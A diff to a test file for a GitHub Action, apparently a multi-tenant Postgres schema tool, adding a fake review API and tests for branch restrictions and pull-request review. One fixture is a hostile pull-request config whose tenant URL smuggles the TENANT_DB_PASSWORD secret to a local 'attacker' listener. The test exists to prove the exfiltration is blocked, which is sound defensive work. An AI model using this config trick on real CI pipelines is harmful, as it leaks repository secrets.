@@ -12,6 +12,7 @@ import { join } from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { adminUrl, createTestDatabase, adminUrlWithPassword } from '../../support/pg.js';
+import { connectionCounter } from '../connection-counter.js';
 
 const REPO_ROOT = join(import.meta.dirname, '..', '..', '..');
 const V1 = 'CREATE TABLE users (id bigint PRIMARY KEY, email text NOT NULL);\n';
@@ -39,7 +40,8 @@ async function fakeGitHubApi(): Promise<{ url: string; requests: ApiRequest[]; c
       res.setHeader('content-type', 'application/json');
       if (req.method === 'POST' && req.url === '/repos/acme/app/check-runs') {
         res.statusCode = 201;
-        res.end(JSON.stringify({ id: 4242, html_url: 'https://github.com/acme/app/runs/4242' }));
+        // Created with the schemafleet app's installation token: the app receives the buttons' clicks.
+        res.end(JSON.stringify({ id: 4242, html_url: 'https://github.com/acme/app/runs/4242', app: { slug: 'schemafleet' } }));
       } else if (req.method === 'PATCH' && req.url === '/repos/acme/app/check-runs/4242') {
         res.end(JSON.stringify({ id: 4242, html_url: 'https://github.com/acme/app/runs/4242' }));
       } else {
@@ -52,6 +54,57 @@ async function fakeGitHubApi(): Promise<{ url: string; requests: ApiRequest[]; c
   const address = server.address();
   if (!address || typeof address === 'string') throw new Error('no port');
   return { url: `http://127.0.0.1:${address.port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
+}
+
+/**
+ * GitHub's REST API as far as the review uses it, for acme/app pull request #7: files per commit
+ * through the contents API, the merge base, and issue comments. GET /user answers 403, as it does
+ * for a workflow token and an app's installation token; comments are authored by `author`.
+ */
+async function fakeReviewApi(files: Record<string, Record<string, string>>, author: { login: string; type: string }) {
+  const comments: { id: number; body: string; user: { login: string; type: string } }[] = [];
+  const requests: ApiRequest[] = [];
+  const server: Server = createServer((req: IncomingMessage, res) => {
+    let raw = '';
+    req.on('data', (chunk: Buffer) => (raw += chunk.toString('utf8')));
+    req.on('end', () => {
+      const body = raw ? (JSON.parse(raw) as Record<string, unknown>) : {};
+      requests.push({ method: req.method ?? '', path: req.url ?? '', body, raw, authorization: req.headers.authorization ?? '', at: Date.now() });
+      const url = new URL(req.url ?? '/', 'http://localhost');
+      const reply = (status: number, data: unknown): void => {
+        res.statusCode = status;
+        res.setHeader('content-type', 'application/json');
+        res.end(JSON.stringify(data));
+      };
+      const contents = /^\/repos\/acme\/app\/contents\/(.+)$/.exec(url.pathname);
+      if (req.method === 'GET' && contents) {
+        const path = decodeURIComponent(contents[1] ?? '');
+        const text = files[url.searchParams.get('ref') ?? '']?.[path];
+        if (text === undefined) return reply(404, { message: 'Not Found' });
+        return reply(200, { type: 'file', path, sha: `sha-${Buffer.from(text).toString('hex').slice(0, 32)}-${text.length}`, size: text.length, encoding: 'base64', content: Buffer.from(text).toString('base64') });
+      }
+      if (req.method === 'GET' && url.pathname.startsWith('/repos/acme/app/compare/')) return reply(200, { merge_base_commit: { sha: decodeURIComponent(url.pathname.split('/').pop() ?? '').split('...')[0] } });
+      if (req.method === 'GET' && url.pathname === '/user') return reply(403, { message: 'Resource not accessible by integration' });
+      if (req.method === 'GET' && url.pathname === '/repos/acme/app/issues/7/comments') return reply(200, Number(url.searchParams.get('page') ?? 1) === 1 ? comments : []);
+      if (req.method === 'POST' && url.pathname === '/repos/acme/app/issues/7/comments') {
+        const comment = { id: 100 + comments.length, body: String(body.body), user: author };
+        comments.push(comment);
+        return reply(201, comment);
+      }
+      const edit = /^\/repos\/acme\/app\/issues\/comments\/(\d+)$/.exec(url.pathname);
+      if (req.method === 'PATCH' && edit) {
+        const comment = comments.find((c) => c.id === Number(edit[1]));
+        if (!comment) return reply(404, { message: 'Not Found' });
+        comment.body = String(body.body);
+        return reply(200, comment);
+      }
+      return reply(404, { message: 'Not Found' });
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  if (!address || typeof address === 'string') throw new Error('no port');
+  return { url: `http://127.0.0.1:${address.port}`, requests, comments, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
 }
 
 let bundleDir: string;
@@ -213,6 +266,58 @@ describe('dist/index.js, as GitHub runs it', () => {
       expect(views[0]?.n).toBe(2);
     } finally {
       await api.close();
+    }
+  });
+
+  it('refuses a rollout started by hand on a branch nobody reviewed: names the ref and allowed-refs, touches no tenant', async () => {
+    const api = await fakeGitHubApi();
+    try {
+      const db = await tenantFleet(['tenant_a']);
+      const ws = await workspace(api.url, db.name, { mode: 'rollout' });
+      ws.env.GITHUB_EVENT_NAME = 'workflow_dispatch';
+      ws.env.GITHUB_REF = 'refs/heads/unreviewed';
+      const { code, stdout } = await runAction(ws).done;
+      expect(code).toBe(1);
+      expect(stdout).toContain('::error::mode rollout refuses to run on refs/heads/unreviewed: a rollout runs only on the default branch (main)');
+      expect(stdout).toContain('allowed-refs');
+      expect(api.requests).toEqual([]);
+      const rows = await db.query<{ n: number }>("SELECT count(*)::int AS n FROM information_schema.tables WHERE table_name = 'projects'");
+      expect(rows[0]?.n).toBe(0);
+    } finally {
+      await api.close();
+    }
+  });
+
+  it('reviews a pull request under the base config, and keeps one comment across runs with an installation token', async () => {
+    const attacker = await connectionCounter();
+    const base = 'b'.repeat(40);
+    const head = 'c'.repeat(40);
+    const baseConfig = ['schema: db/schema.sql', 'tenants:', '  list:', '    - id: t1', '      url: postgres://app:pw@127.0.0.1:1/t1', ''].join('\n');
+    const headConfig = ['schema: ../db/schema.sql', 'tenants:', '  list:', '    - id: evil', `      url: postgres://x:\${TENANT_DB_PASSWORD}@127.0.0.1:${attacker.port}/\${TENANT_DB_PASSWORD}`, 'lint:', '  rules:', '    drop-column: off', ''].join('\n');
+    const api = await fakeReviewApi(
+      {
+        [base]: { 'schemafleet.yml': baseConfig, 'db/schema.sql': V2 },
+        [head]: { 'schemafleet.yml': baseConfig, '.github/schemafleet.yml': headConfig, 'db/schema.sql': V1 },
+      },
+      { login: 'schemafleet-acme[bot]', type: 'Bot' },
+    );
+    try {
+      const ws = await workspace(api.url, 'postgres', { mode: 'review' });
+      ws.env.GITHUB_EVENT_NAME = 'pull_request';
+      await writeFile(ws.env.GITHUB_EVENT_PATH as string, JSON.stringify({ repository: { full_name: 'acme/app', default_branch: 'main', private: true }, pull_request: { number: 7, base: { sha: base, repo: { full_name: 'acme/app' } }, head: { sha: head, repo: { full_name: 'acme/app' } } } }));
+      for (let run = 0; run < 3; run++) {
+        const { code, stdout } = await runAction(ws).done;
+        // drop-column (projects, users.name) is an error under the base config the review obeys.
+        expect(code, stdout).toBe(1);
+      }
+      expect(attacker.connections()).toBe(0);
+      expect(api.comments).toHaveLength(1);
+      expect(api.comments[0]?.body).toContain('drop-column');
+      expect(api.comments[0]?.body).toContain('This pull request changes `.github/schemafleet.yml`. The change takes effect after merge');
+      expect(JSON.stringify(api.requests.map((r) => r.raw))).not.toContain(ws.password);
+    } finally {
+      await api.close();
+      await attacker.close();
     }
   });
 
